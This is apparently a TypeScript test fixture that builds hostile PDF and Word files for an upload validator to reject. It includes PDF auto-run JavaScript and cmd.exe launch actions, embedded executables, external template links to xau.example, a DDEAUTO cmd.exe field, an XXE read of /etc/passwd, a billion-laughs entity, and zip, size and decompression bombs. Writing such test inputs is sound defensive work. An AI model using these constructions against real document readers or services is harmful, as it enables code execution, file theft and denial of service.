// Files that do something when they are opened, and files that swell when they are.
import { deflateSync } from 'node:zlib'
import { assemblePdf, blankPicture, docxFile, pdfBomb, pdfFile, zipFile, type ZipEntry } from '../files'
import { bytes, type Fault, type HostileFile } from './file'

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'

/** A PDF of one page whose catalog or page says more, with further objects from number 4 on. */
const pdfWith = ({ catalog = '', page = '', more = [] }: { catalog?: string; page?: string; more?: (string | Buffer)[] }) =>
  assemblePdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, PAGES, PAGE.replace('>>', `${page} >>`), ...more].map((one) => bytes(one)))

const packed = (text: string, more: string): Buffer => {
  const body = deflateSync(text)
  return bytes(`<< ${more} /Filter /FlateDecode /Length ${body.length} >>\nstream\n`, body, '\nendstream')
}
const ACTION = '<< /S /JavaScript /JS (app.alert(1)) >>'
const annotation = (words: string) => ({ page: '/Annots [4 0 R]', more: [`<< /Type /Annot /Rect [0 0 9 9] ${words} >>`, '<< >>'] })
const ATTACHED = ['<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream']

const ACTING_PDF: [string, Buffer][] = [
  ['runs a script when it opens', pdfWith({ catalog: `/OpenAction ${ACTION}` })],
  ['runs a script whose name is spelled in numbers', pdfWith({ catalog: '/OpenAction << /S /J#61v#61Script /JS (app.alert\\(1\\)) >>' })],
  ['names scripts', pdfWith({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [ACTION] })],
  ['runs a script when it closes', pdfWith({ catalog: `/AA << /WC ${ACTION} >>` })],
  ['runs a script when its page opens', pdfWith({ page: `/AA << /O ${ACTION} >>` })],
  ['has a link that runs a script', pdfWith(annotation(`/Subtype /Link /A ${ACTION}`))],
  ['has a box that runs a script', pdfWith(annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${ACTION} >>`))],
  [
    'hides its script in a packed stream',
    pdfWith({ catalog: '/OpenAction 5 0 R', more: [packed(`5 0 ${ACTION}`, '/Type /ObjStm /N 1 /First 4')] }),
  ],
  ['starts a program', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['starts a program by a link', pdfWith(annotation('/Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >>'))],
  ['carries a file', pdfWith({ catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>', more: ATTACHED })],
  [
    'carries a file on a page',
    pdfWith({ page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]', more: ATTACHED }),
  ],
  ['plays a Flash film', pdfWith(annotation('/Subtype /RichMedia'))],
  ['fetches data', pdfWith({ catalog: '/OpenAction << /S /ImportData /F (file://xau.example/x.fdf) >>' })],
  ['sends its form away', pdfWith({ catalog: '/OpenAction << /S /SubmitForm /F (https://xau.example) >>' })],
  ['opens a file elsewhere', pdfWith({ catalog: '/OpenAction << /S /GoToR /F (file://xau.example/x.pdf) >>' })],
  ['is an XFA form', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>', more: ['<< /Length 12 >>\nstream\n<xdp:xdp/>  \nendstream'] })],
]

const relation = (type: string, target: string): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
})
const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const xml = (name: string, content: string): ZipEntry => ({ name, content })

const ACTING_DOCX: [string, Buffer][] = [
  ['macros', docxFile({ main: macro })],
  ['a macro part', docxFile({ more: [xml('word/vbaProject.bin', 'x')] })],
  ['macro data', docxFile({ more: [xml('word/vbaData.xml', '<x/>')] })],
  ...['https://xau.example/a.dotm', 'http://xau.example/a', 'ftp://xau.example/a', '\\\\xau.example\\a', 'file://xau.example/a'].map(
    (target): [string, Buffer] => [`a template at ${target}`, docxFile({ more: [relation('attachedTemplate', target)] })],
  ),
  ...['oleObject', 'frame', 'subDocument', 'aFChunk'].map((type): [string, Buffer] => [
    `a ${type} from elsewhere`,
    docxFile({ more: [relation(type, 'https://xau.example/a')] }),
  ]),
  ['a picture on a stranger’s share', docxFile({ more: [relation('image', '\\\\xau.example\\a.png')] })],
  ['a picture at a stranger’s file address', docxFile({ more: [relation('image', 'file://xau.example/a.png')] })],
  ['ActiveX', docxFile({ more: [xml('word/activeX/activeX1.bin', 'x')] })],
  ['a program', docxFile({ more: [xml('word/embeddings/x.exe', 'MZ')] })],
  ['a script', docxFile({ more: [xml('word/embeddings/x.js', 'x')] })],
  ['a file with macros', docxFile({ more: [xml('word/embeddings/x.docm', 'x')] })],
  ['an RTF', docxFile({ more: [xml('word/afchunk.rtf', '{\\rtf1}')] })],
  [
    'a DDE field',
    docxFile({ more: [xml('word/header1.xml', '<w:hdr><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:hdr>')] }),
  ],
  ['a simple DDE field', docxFile({ more: [xml('word/header1.xml', '<w:hdr><w:fldSimple w:instr=" DDE cmd x"/></w:hdr>')] })],
  ['an entity', docxFile({ more: [xml('word/a.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')] })],
  ['entities of entities', docxFile({ more: [xml('word/a.xml', laughs())] })],
  ['its document twice', docxFile({ more: [xml('word/document.xml', '<w:document><w:body/></w:document>')] })],
  ['its document twice, in another case', docxFile({ more: [xml('word/Document.xml', '<w:document><w:body/></w:document>')] })],
]

/** Ten entities, each ten times the one before. */
function laughs(): string {
  const lines = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`)
  return `<!DOCTYPE a [<!ENTITY l0 "ha">${lines.join('')}]><a>&l9;</a>`
}

async function bombs(): Promise<[string, string, Buffer, Fault][]> {
  const seventy = Buffer.alloc(70 * 1024 * 1024)
  const part = (name: string) => ({ name: `word/media/${name}.bin`, content: seventy })
  const many = Array.from({ length: 3_000 }, (_, index) => ({ name: `x/${index}`, content: '' }))
  const inner = zipFile([{ name: 'a.bin', content: Buffer.alloc(5 * 1024 * 1024) }])
  return [
    ['a Word file of 210 MB', 'don.docx', docxFile({ more: ['a', 'b', 'c'].map(part) }), 'unsafe'],
    ['a Word file of 3,000 parts', 'don.docx', docxFile({ more: many }), 'unsafe'],
    [
      'a Word file that lies about its size',
      'don.docx',
      docxFile({ more: [{ name: 'word/media/a.bin', content: Buffer.alloc(1024 * 1024), declaredSize: 10 }] }),
      'unreadable',
    ],
    ['zips in a zip', 'goi.zip', zipFile(['a', 'b', 'c'].map((name) => ({ name: `${name}.zip`, content: inner }))), 'not_allowed'],
    ['a list of names of 3 MB', 'don.docx', docxFile({ more: [xml('word/_rels/a.xml.rels', ' '.repeat(3 * 1024 * 1024))] }), 'unreadable'],
    ['a PDF of 512 MB', 'to-khai.pdf', pdfBomb(512), 'unreadable'],
    ['a PNG of 108 million points', 'anh.png', await blankPicture('png', { width: 12_000, height: 9_000, progressive: false }), 'pixels'],
    ['a file of 21 MB', 'nang.pdf', pdfFile({ padding: 21 * 1024 * 1024 }), 'too_large'],
  ]
}

export async function actingFiles(): Promise<HostileFile[]> {
  return [
    ...ACTING_PDF.map(([what, content]): HostileFile => ({ kind: `a PDF that ${what}`, name: 'to-khai.pdf', content, fault: 'unsafe' })),
    ...ACTING_DOCX.map(([what, content]): HostileFile => ({
      kind: `a Word file with ${what}`,
      name: 'don.docx',
      content,
      fault: 'unsafe',
    })),
    ...(await bombs()).map(([kind, name, content, fault]): HostileFile => ({ kind, name, content, fault })),
  ]
}
